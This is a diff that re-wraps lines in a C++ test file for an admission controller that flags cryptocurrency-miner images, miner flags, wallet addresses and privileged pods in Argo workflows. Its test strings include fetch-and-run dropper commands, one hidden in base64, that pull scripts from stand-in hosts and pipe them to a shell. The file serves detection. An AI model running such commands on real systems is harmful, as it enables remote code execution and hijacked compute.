@@ -17,10 +17,11 @@ namespace {
 using Json = nlohmann::json;
 
 Json workflow_with(const Json& container) {
-  return {{"apiVersion", "argoproj.io/v1alpha1"},
-          {"kind", "Workflow"},
-          {"metadata", {{"name", "w"}}},
-          {"spec", {{"entrypoint", "main"}, {"templates", Json::array({{{"name", "main"}, {"container", container}}})}}}};
+  return {
+      {"apiVersion", "argoproj.io/v1alpha1"},
+      {"kind", "Workflow"},
+      {"metadata", {{"name", "w"}}},
+      {"spec", {{"entrypoint", "main"}, {"templates", Json::array({{{"name", "main"}, {"container", container}}})}}}};
 }
 
 std::set<std::string> denied_rules(const Admission& a) {
@@ -32,9 +33,10 @@ std::set<std::string> denied_rules(const Admission& a) {
 }
 
 TEST(SignaturesTest, KnownMinerImagesAreRecognisedWhateverTheirTagOrAccount) {
-  for (const char* image : {"xmrig/xmrig", "metal3d/xmrig:latest", "kannix/monero-miner", "docker.io/lchaia/xmrig@sha256:abc",
-                            "ghcr.io/someone/cpuminer-opt:v3", "servethehome/monero_cpu_minergate", "nbminer", "t-rex:0.26",
-                            "lolminer/lolminer", "ethminer:1"}) {
+  for (const char* image :
+       {"xmrig/xmrig", "metal3d/xmrig:latest", "kannix/monero-miner", "docker.io/lchaia/xmrig@sha256:abc",
+        "ghcr.io/someone/cpuminer-opt:v3", "servethehome/monero_cpu_minergate", "nbminer", "t-rex:0.26",
+        "lolminer/lolminer", "ethminer:1"}) {
     EXPECT_TRUE(is_known_miner_image(image)) << image;
   }
   for (const char* image : {"busybox", "alpine:3.18", "argoproj/argosay:v2", "python:3.12", "docker/whalesay",
@@ -55,13 +57,15 @@ TEST(SignaturesTest, CommandLinesOfMinersAndDroppersAreRecognised) {
   EXPECT_TRUE(rules_of("app --donate-level 1 --threads 4").count("command.miner-flags"));
   EXPECT_TRUE(rules_of("run -o 1.2.3.4:3333 -u mywallet -p x").count("command.miner-flags"));
   EXPECT_TRUE(rules_of("--algo=rx/0").count("command.miner-flags"));
-  EXPECT_TRUE(rules_of("44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A")
-                  .count("command.wallet"));
+  EXPECT_TRUE(
+      rules_of("44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A")
+          .count("command.wallet"));
   EXPECT_TRUE(rules_of("/tmp/xmrig --config c.json").count("command.miner-binary"));
   EXPECT_TRUE(rules_of("curl -fsSL http://x.example/i.sh | bash").count("command.dropper"));
   EXPECT_TRUE(rules_of("wget -q http://x/m -O /tmp/m; chmod +x /tmp/m; /tmp/m").count("command.dropper"));
-  EXPECT_TRUE(rules_of("echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBzaCAjIGhpZGRlbiBkcm9wcGVyIHBheWxvYWQ= | base64 -d | sh")
-                  .count("command.dropper"));
+  EXPECT_TRUE(
+      rules_of("echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBzaCAjIGhpZGRlbiBkcm9wcGVyIHBheWxvYWQ= | base64 -d | sh")
+          .count("command.dropper"));
   for (const char* benign : {"echo hello world", "python -c 'print(1)'", "curl -s http://api.example/data -o out.json",
                              "sleep 30; echo done", "cowsay hello", "git clone https://github.com/argoproj/argo.git",
                              "-o output.txt -u user"}) {
@@ -75,11 +79,13 @@ TEST(AdmissionTest, MinerWorkflowsAreDeniedNamingEachRule) {
   EXPECT_EQ(denied_rules(a), (std::set<std::string>{"image.miner", "command.miner-flags"}));
   EXPECT_NE(a.denial_message().find("image.miner at spec.templates[0].container.image"), std::string::npos);
 
-  auto renamed = admit_object(rules, workflow_with({{"image", "alpine"}, {"command", {"/bin/worker"}},
-                                                    {"args", {"-o", "stratum+tcp://1.2.3.4:3333"}}}));
+  auto renamed = admit_object(
+      rules, workflow_with(
+                 {{"image", "alpine"}, {"command", {"/bin/worker"}}, {"args", {"-o", "stratum+tcp://1.2.3.4:3333"}}}));
   EXPECT_EQ(denied_rules(renamed), (std::set<std::string>{"command.stratum"}));
 
-  auto privileged = admit_object(rules, workflow_with({{"image", "alpine"}, {"securityContext", {{"privileged", true}}}}));
+  auto privileged =
+      admit_object(rules, workflow_with({{"image", "alpine"}, {"securityContext", {{"privileged", true}}}}));
   EXPECT_EQ(denied_rules(privileged), (std::set<std::string>{"pod.privileged"}));
 
   Json host = workflow_with({{"image", "alpine"}});
@@ -122,7 +128,8 @@ namespaces:
   lab:
     images: {allow: []}
     pods: {privileged: warn}
-)", "policy.yaml");
+)",
+                          "policy.yaml");
   const PolicyRules& d = p.for_namespace("argo");
   EXPECT_TRUE(denied_rules(admit_object(d, workflow_with({{"image", "alpine"}}))).count("image.not-allowed"));
   Json limited = workflow_with({{"image", "ghcr.io/acme/tool:1"}, {"resources", {{"limits", {{"cpu", "1"}}}}}});
